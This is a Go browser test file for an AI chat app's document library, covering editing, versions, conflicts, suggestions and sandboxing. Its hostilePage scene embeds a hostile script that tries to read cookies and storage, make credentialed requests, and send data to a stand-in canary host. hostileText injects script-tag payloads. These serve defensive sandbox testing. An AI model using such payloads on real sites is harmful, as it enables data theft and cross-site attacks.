@@ -1,0 +1,371 @@
+package handlers_test
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/page"
+
+	"alleato/ai/model/script"
+)
+
+func documentScenes() map[string]scene {
+	scenes := map[string]scene{"document/hostile page": hostilePage, "document/hostile text": hostileText, "document/without scripts": documentWithoutScripts}
+	for name, where := range map[string]screen{"desktop": desktop, "phone": phoneDark} {
+		scenes["document/life "+name] = func(t *testing.T, b *chromium) { documentLife(t, b, where) }
+		scenes["document/conflict "+name] = func(t *testing.T, b *chromium) { documentConflict(t, b, where) }
+		scenes["document/suggestions "+name] = func(t *testing.T, b *chromium) { documentSuggestions(t, b, where) }
+		scenes["document/tool "+name] = func(t *testing.T, b *chromium) { documentTool(t, b, where) }
+	}
+	return scenes
+}
+
+// makes makes a document as the page's visitor, and returns its path.
+func (p *tab) makes(kind, title, content string) string {
+	p.t.Helper()
+	return "/documents/" + get[string](p, fmt.Sprintf(`fetch('/documents', {method: 'POST', headers: {'Content-Type': 'application/json', Accept: 'application/json'},
+		body: JSON.stringify({kind: %q, title: %q, content: %q})}).then((r) => r.json()).then((r) => r.document.id)`, kind, title, content))
+}
+
+const versionBadge = `[data-testid="artifact-version"]`
+
+func (p *tab) atVersion(n string) {
+	p.t.Helper()
+	p.until(find(versionBadge) + "?.textContent === 'v" + n + "'")
+}
+
+// replace puts a text in the place of a field's.
+func (p *tab) replace(selector, text string) {
+	p.t.Helper()
+	p.click(selector)
+	get[bool](p, find(selector)+".select() ?? true")
+	p.press(text)
+}
+
+// documentLife: made in the library, written, walked, compared, restored, shared, found and deleted.
+func documentLife(t *testing.T, b *chromium, where screen) {
+	s := playhouse(t, always(script.Say("A reply.")))
+	p := b.visit(t, s, where, "/documents")
+	p.until(shown(testid("documents-empty")))
+	p.accessible()
+	p.click(testid("document-new"))
+	p.click(testid("document-new-text"))
+	p.until(shown(testid("artifact-editor")))
+	p.accessible()
+	p.replace(`#artifact-form [name="title"]`, "Plan for Torino")
+	p.write(testid("artifact-editor"), "# Where to go\n\nSee the **Mole** first.\n")
+	p.click(testid("artifact-save"))
+	p.until(find(testid("artifact-content")+" strong") + "?.textContent === 'Mole'")
+	p.atVersion("2")
+	p.accessible()
+	path := get[string](p, "location.pathname")
+	p.click(testid("artifact-edit"))
+	p.until(shown(testid("artifact-editor")))
+	p.replace(testid("artifact-editor"), "# Where to go\n\nSee the **Egyptian museum** first.\n")
+	p.click(testid("artifact-save"))
+	p.atVersion("3")
+	p.click(testid("artifact-version-previous"))
+	p.atVersion("2")
+	p.until(find(testid("artifact-content")) + ".textContent.includes('Mole')")
+	p.accessible()
+	p.click(testid("artifact-version-next"))
+	p.atVersion("3")
+	p.click(testid("artifact-diff"))
+	p.until(find(".diff ins") + "?.textContent.includes('Egyptian museum')")
+	p.until(find(".diff del") + "?.textContent.includes('Mole')")
+	p.accessible()
+	p.click(testid("artifact-back"))
+	p.atVersion("3")
+	p.click(testid("artifact-menu"))
+	p.click(testid("artifact-versions"))
+	p.until(fmt.Sprintf("document.querySelectorAll('%s').length === 3", testid("version-row")))
+	p.accessible()
+	p.click(`[data-version="2"] ` + testid("artifact-restore"))
+	p.atVersion("4")
+	p.until(find(testid("artifact-content")) + ".textContent.includes('Mole')")
+
+	p.click(testid("artifact-menu"))
+	p.click(testid("visibility-selector-item-public"))
+	p.until(shown(testid("share-link")))
+	p.accessible()
+	reader := b.visit(t, s, where, strings.TrimPrefix(get[string](p, find(testid("share-link"))+".value"), s.url))
+	reader.until(find(testid("artifact-content")) + "?.textContent.includes('Mole')")
+	if get[bool](reader, "Boolean("+find(testid("artifact-edit"))+" || "+find(testid("artifact-menu"))+")") {
+		t.Error("a reader is offered to change the document")
+	}
+	reader.accessible()
+	p.click(testid("visibility-selector-item-private"))
+	p.until("!" + find(testid("share-link")))
+	reader.expect("404")
+	reader.reload()
+	reader.until(find(testid("error-page")))
+
+	p.open("/documents?q=mole")
+	p.until(shown(testid("document-card")))
+	p.accessible()
+	p.click(testid("document-card") + " .document-link")
+	p.until("location.pathname === '" + path + "'")
+	p.click(testid("artifact-menu"))
+	p.click(testid("artifact-delete"))
+	p.until(shown(testid("artifact-delete-ok")))
+	p.accessible()
+	p.click(testid("artifact-delete-ok"))
+	p.until("location.pathname === '/documents'")
+	p.until(shown(testid("documents-empty")))
+}
+
+// documentConflict: two tabs on one document, one saves over the other; nothing is lost.
+func documentConflict(t *testing.T, b *chromium, where screen) {
+	s := playhouse(t, always(script.Say("A reply.")))
+	p := b.visit(t, s, where, "/")
+	path := p.makes("text", "Plan", "one")
+	p.open(path + "?edit=1")
+	q := p.another(path + "?edit=1")
+	p.until(shown(testid("artifact-editor")))
+	q.until(shown(testid("artifact-editor")))
+	p.replace(testid("artifact-editor"), "mine")
+	p.click(testid("artifact-save"))
+	p.atVersion("2")
+	q.expect("409")
+	q.replace(testid("artifact-editor"), "yours")
+	q.click(testid("artifact-save"))
+	q.until(shown(testid("artifact-conflict")))
+	if a, b := get[string](q, find(testid("conflict-yours"))+".value"), get[string](q, find(testid("conflict-current"))+".value"); a != "yours" || b != "mine" {
+		t.Errorf("the page shows %q and %q", a, b)
+	}
+	q.accessible()
+	q.click(testid("conflict-save"))
+	q.atVersion("3")
+	for version, text := range map[string]string{"1": "one", "2": "mine", "3": "yours"} {
+		q.open(path + "?version=" + version)
+		q.until(find(testid("artifact-content")) + "?.textContent.trim() === '" + text + "'")
+	}
+}
+
+// documentSuggestions: accepted, dismissed, and one that no longer fits.
+func documentSuggestions(t *testing.T, b *chromium, where screen) {
+	s := playhouse(t, always(script.Say("A reply.")))
+	p := b.visit(t, s, where, "/")
+	path := p.makes("text", "Plan", "A big house, a red car, a blue sky.")
+	for _, words := range [][2]string{{"big", "large"}, {"red", "green"}, {"red car", "bike"}, {"sky", "sea"}} {
+		get[int](p, fmt.Sprintf(`fetch('%s/suggestions', {method: 'POST', headers: {'Content-Type': 'application/json', Accept: 'application/json'},
+			body: JSON.stringify({originalText: %q, suggestedText: %q, description: 'Better.'})}).then((r) => r.status)`, path, words[0], words[1]))
+	}
+	waits := func(n int) {
+		t.Helper()
+		p.until(fmt.Sprintf("document.querySelectorAll('%s').length === %d", testid("suggestion"), n))
+	}
+	p.open(path)
+	waits(4)
+	p.accessible()
+	p.click(testid("suggestion-accept"))
+	p.until(find(testid("artifact-content")) + "?.textContent.includes('large house')")
+	waits(3)
+	p.click(testid("suggestion-accept"))
+	p.until(find(testid("artifact-content")) + "?.textContent.includes('green car')")
+	p.until(shown(testid("suggestion-stale")))
+	p.accessible()
+	p.click(testid("suggestion-dismiss"))
+	waits(1)
+	p.click(testid("suggestion-accept"))
+	p.until(find(testid("artifact-content")) + "?.textContent.trim() === 'A large house, a green car, a blue sea.'")
+	p.atVersion("4")
+	waits(0)
+}
+
+// documentTool: the card of a document that is being written leads to it, its page grows, and the
+// reply ends as the page shows it.
+func documentTool(t *testing.T, b *chromium, where screen) {
+	g, more := newGate(), newGate()
+	s := withTools(t, func(r script.Request) script.Reply {
+		if strings.HasPrefix(system(r), "Write the document") {
+			return staged(stage{nil, script.Words("# Rome\n\nfirst half", 0)}, stage{g, script.Words(" then more", 0)}, stage{more, script.Words(" and the end", 0)})
+		}
+		return writer(r)
+	})
+	release(t, g, more)
+	p := b.visit(t, s, where, "/")
+	p.ask("create it")
+	card := replyBody + " " + testid("document-card")
+	p.until(shown(card))
+	p.accessible()
+	q := p.another(get[string](p, find(card)+".getAttribute('href')"))
+	q.until(find(testid("artifact-content")) + "?.textContent.includes('first half')")
+	g.open()
+	q.until(find(testid("artifact-content")) + "?.textContent.includes('then more')") // by itself
+	q.accessible()
+	more.open()
+	q.until(find(testid("artifact-content")) + "?.textContent.includes('and the end')")
+	q.until(shown(testid("artifact-edit")))
+	p.finished("complete")
+	p.same()
+	p.accessible()
+	p.click(card)
+	p.until(shown(testid("artifact")))
+	p.atVersion("1")
+	p.click(testid("artifact-close-button"))
+	p.until(shown(card))
+}
+
+// hostileScript tries everything that could reach out of the frame, tells its parent what came of it, and
+// then tries to leave.
+const hostileScript = `<!doctype html><title>Page</title>
+<link rel=preload as=image href="CANARY/preload"><link rel=prefetch href="CANARY/prefetch"><link rel=stylesheet href="CANARY/sheet"><link rel=icon href="CANARY/icon">
+<style>@import url(CANARY/import); body { background: url(CANARY/background) } @font-face { font-family: x; src: url(CANARY/font) } p { font-family: x }</style>
+<base href="CANARY/base/"><p>Text</p><img src="CANARY/image" srcset="CANARY/set 2x"><video src="CANARY/video" poster="CANARY/poster"></video>
+<script src="CANARY/script.js"></script><iframe src="CANARY/frame"></iframe><object data="CANARY/object"></object><embed src="CANARY/embed">
+<form id=away action="CANARY/form" method=post><input name=secret value=1></form>
+<form id=home action="ORIGIN/documents" method=post target=_top><input name=kind value=text></form>
+<script>
+const results = {}
+const attempt = async (name, act) => {
+  try { results[name] = 'did ' + await Promise.race([act(), later(1000).then(() => { throw 0 })]) } catch { results[name] = 'refused' }
+}
+const later = (ms) => new Promise((done) => setTimeout(done, ms))
+;(async () => {
+  await attempt('parent', () => parent.document.title)
+  await attempt('frames', () => parent.frames[0].document.title + top.document.cookie)
+  await attempt('cookie', () => document.cookie)
+  await attempt('setCookie', () => { document.cookie = 'a=b'; return document.cookie })
+  await attempt('storage', () => localStorage.length)
+  await attempt('session', () => sessionStorage.length)
+  await attempt('database', () => indexedDB.open('x').transaction)
+  await attempt('fetch', () => fetch('CANARY/fetch'))
+  await attempt('blind', () => fetch('CANARY/blind', {mode: 'no-cors', method: 'POST', body: 'x'}))
+  await attempt('me', () => fetch('ORIGIN/auth/me', {credentials: 'include'}))
+  await attempt('meBlind', () => fetch('ORIGIN/chats', {method: 'DELETE', mode: 'no-cors', credentials: 'include'}))
+  await attempt('xhr', () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = failed; x.open('GET', 'CANARY/xhr'); x.send() }))
+  await attempt('top', () => { top.location.href = 'CANARY/top'; return 'ok' })
+  await attempt('popup', () => open('CANARY/popup'))
+  await attempt('import', () => import('CANARY/module.js'))
+  await attempt('worker', () => new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(['importScripts("CANARY/worker")']))); w.onmessage = done; w.onerror = failed }))
+  navigator.sendBeacon('CANARY/beacon', 'x')
+  try { new WebSocket('CANARY/socket'.replace('http', 'ws')) } catch {}
+  try { new EventSource('CANARY/events') } catch {}
+  new Image().src = 'CANARY/new-image'
+  const a = Object.assign(document.createElement('a'), {href: 'CANARY/link', target: '_top', ping: 'CANARY/ping'})
+  document.body.append(a)
+  a.click()
+  parent.postMessage(results, '*')
+  await later(100)
+  document.getElementById('away').submit()
+  document.getElementById('home').submit()
+  await later(100)
+  LEAVE
+})()
+</script>`
+
+// leaves are ways to leave the frame; each ends the page that takes it, by what the browser shows instead.
+var leaves = []string{
+	"location.href = 'CANARY/self?secret'", "open('CANARY/open?secret', '_self')",
+	"Object.assign(document.createElement('a'), {href: 'CANARY/download', download: 'x'}).click()",
+	"document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=CANARY/refresh\">'",
+}
+
+// hostilePage: a page that a model wrote runs, and reaches nothing.
+func hostilePage(t *testing.T, b *chromium) {
+	var heard atomic.Int64
+	canary := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		heard.Add(1)
+		t.Logf("the canary heard %s", r.URL)
+	}))
+	t.Cleanup(canary.Close)
+	s := playhouse(t, always(script.Say("A reply.")))
+	p := b.visit(t, s, desktop, "/")
+	p.ask("Hi")
+	p.finished("complete")
+	p.expect(".") // the browser tells of everything that it blocks
+	must(call(p, page.AddScriptToEvaluateOnNewDocument.Method, page.AddScriptToEvaluateOnNewDocumentParams{
+		Source: `if (self === top) addEventListener('message', (e) => { window.told = e.data })`}))
+	path := ""
+	for _, leave := range leaves {
+		path = p.makes("html", "Page", strings.NewReplacer("CANARY", canary.URL, "ORIGIN", s.url).Replace(strings.Replace(hostileScript, "LEAVE", leave, 1)))
+		p.open(path)
+		p.until("window.told")
+		results := get[map[string]string](p, "window.told")
+		if len(results) != 16 {
+			t.Errorf("%d attempts were told of: %v", len(results), results)
+		}
+		for name, result := range results {
+			if result != "refused" && !(name == "popup" && result == "did null") {
+				t.Errorf("%s: %s", name, result)
+			}
+		}
+		time.Sleep(700 * time.Millisecond) // for what it tries last
+		if at := get[string](p, "location.pathname"); at != path {
+			t.Errorf("the page is at %s", at)
+		}
+	}
+	if n := get[int](p, "fetch('/chats', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.chats.length)"); n != 1 {
+		t.Errorf("%d chats are left", n)
+	}
+	if n := get[int](p, "fetch('/documents', {headers: {Accept: 'application/json'}}).then((r) => r.json()).then((r) => r.documents.length)"); n != len(leaves) {
+		t.Errorf("there are %d documents", n)
+	}
+	if heard.Load() > 0 {
+		t.Errorf("the canary heard %d requests", heard.Load())
+	}
+	p.open(path + "/preview") // not outside of its frame
+	p.until(find(testid("error-page")))
+	if heard.Load() > 0 {
+		t.Error("the canary heard the page that was opened by itself")
+	}
+}
+
+// hostileText: Markdown, code and sheets full of HTML are text.
+func hostileText(t *testing.T, b *chromium) {
+	var heard atomic.Int64
+	canary := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { heard.Add(1) }))
+	t.Cleanup(canary.Close)
+	s := playhouse(t, always(script.Say("A reply.")))
+	p := b.visit(t, s, phone, "/")
+	text := strings.ReplaceAll(attacks, "CANARY", canary.URL)
+	for _, kind := range []string{"text", "code", "sheet"} {
+		path := p.makes(kind, `"><script>window.hacked = 1</script>`, text)
+		for _, where := range []string{path, path + "?edit=1", path + "/diff", path + "/versions", "/documents", "/search?q=hacked"} {
+			p.open(where)
+			p.until("document.readyState === 'complete'")
+			p.narrow()
+			if get[bool](p, "'hacked' in window || Boolean(document.querySelector('#main :is(script, iframe, object, style, [style], [onclick], [onerror])'))") {
+				t.Errorf("%s at %s: something of it is live", kind, where)
+			}
+		}
+	}
+	if heard.Load() > 0 {
+		t.Errorf("the canary heard %d requests", heard.Load())
+	}
+}
+
+// documentWithoutScripts: the whole way with JavaScript switched off.
+func documentWithoutScripts(t *testing.T, b *chromium) {
+	s := playhouse(t, always(script.Say("A reply.")))
+	p := b.visit(t, s, phone, "")
+	must(p.scripts(false))
+	p.open("/documents")
+	step := func(selector string) {
+		t.Helper()
+		before := p.documents()
+		p.click(selector)
+		p.loaded(before)
+	}
+	p.click(testid("document-new"))
+	step(testid("document-new-sheet"))
+	p.write(testid("artifact-editor"), "Region,Revenue\nTorino,2.21\n")
+	step(testid("artifact-save"))
+	p.until(find("table.artifact-sheet td:nth-of-type(2)") + "?.textContent === '2.21'")
+	p.atVersion("2")
+	p.accessible()
+	step(testid("artifact-version-previous"))
+	p.atVersion("1")
+	step(testid("artifact-restore"))
+	p.atVersion("3")
+	p.click(testid("artifact-menu"))
+	p.click(testid("artifact-delete"))
+	step(testid("artifact-delete-ok"))
+	p.until(shown(testid("documents-empty")))
+}
